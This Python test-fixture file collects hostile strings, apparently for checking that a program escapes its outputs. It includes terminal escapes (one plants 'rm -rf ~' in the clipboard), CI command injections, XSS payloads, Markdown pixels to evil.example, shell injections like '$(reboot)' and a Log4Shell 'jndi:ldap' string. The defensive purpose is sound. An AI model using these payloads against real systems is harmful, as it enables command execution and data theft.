"""Texts that attack whoever prints, parses or opens them; every exit is tested with all of them."""

TERMINAL = (
    "\x1b]0;owned\x07title",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07clipboard",
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b[31mred\x1b[0m",
    "\x9b31mC1 introducer",
    "over\rwritten",
    "nul\x00byte",
    "back\x08space and bell\x07",
    "delete\x7f",
    "right \u202eto left",
    "isolate \u2066inside\u2069",
    "zero\u200bwidth \u2060joiner \ufeffmark",
    "tag \U000e0041\U000e0042 letters",
    "soft\u00adhyphen, filler \u3164 and blank \u2800",
    "line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform",
    "lone \ud800 surrogate",
)
CONSOLE_MARKUP = ("[/x]", "[red]alarm[/red]", "[link=http://evil.example]x[/link]", "[bold", "[/]", "\\[red]")
CI_COMMANDS = (
    "::error file=a,line=1::owned",
    "  ::set-output name=x::y",
    "\u00a0::add-mask::x",
    "first\n::stop-commands::token\n::warning::x",
    "##[error]owned",
    "text ##[group]folded",
    "##vso[task.setvariable variable=x]y",
    "##teamcity[buildStop comment='x']",
    "a\r\n::debug::x",
    "section_start:1:x\r\x1b[0Ktitle",
)
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</pre></code></style></title><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "<!-- --><b>bold</b>",
    "]]><![CDATA[x",
    "&lt;script&gt; &amp; &#60;b&#62;",
    "{{ 7*7 }} {% for x in y %} {{ x.__class__ }}",
    "<iframe srcdoc='<script>1</script>'>",
    "<meta http-equiv=refresh content=0>",
)
MARKDOWN = (
    "```\nescaped fence\n```",
    "````````\nlonger fence",
    "~~~\ntilde fence\n~~~",
    "![pixel](http://evil.example/p.png)",
    "[link](http://evil.example)",
    "<http://evil.example>",
    "http://evil.example/bare and www.evil.example",
    "@everyone @octocat mention, #1 issue, !2 merge request, GH-3",
    "| cell | of | a | table |",
    "\\| escaped pipe \\",
    "# heading",
    "- list\n1. list\n> quote",
    "***\n---\n===",
    "`code` ``double`` ```triple```",
    "*bold* _it_ ~~gone~~ $math$ :smile:",
    "[ref]: http://evil.example",
    "&copy; &#64;everyone",
    "0123456789abcdef0123456789abcdef01234567",
)
CHAT = (
    "<!channel> <!here> <@U012AB3CD> <#C012AB3CD>",
    "<http://evil.example|safe.example>",
    "@here @channel",
    "``` out of the block <!everyone>",
    "*bold* _italic_ ~strike~ `code` :rotating_light:",
)
SHELL = ("x; reboot", "$(reboot)", "`reboot`", "a' b", "-rf", "x\ny", "&& reboot", "|tee /etc/passwd")
TEMPLATES = ("{x.__class__}", "{{7*7}}", "{% include 'x' %}", "%s %(x)s", "${jndi:ldap://evil.example}")
LONG = ("a" * 20_000, "ab " * 8_000, "\n" * 3_000, "[" * 5_000, "`" * 4_000, "://" * 3_000, "\u0301" * 2_000)

EVERY = (*TERMINAL, *CONSOLE_MARKUP, *CI_COMMANDS, *HTML, *MARKDOWN, *CHAT, *SHELL, *TEMPLATES)
"""All short payloads."""
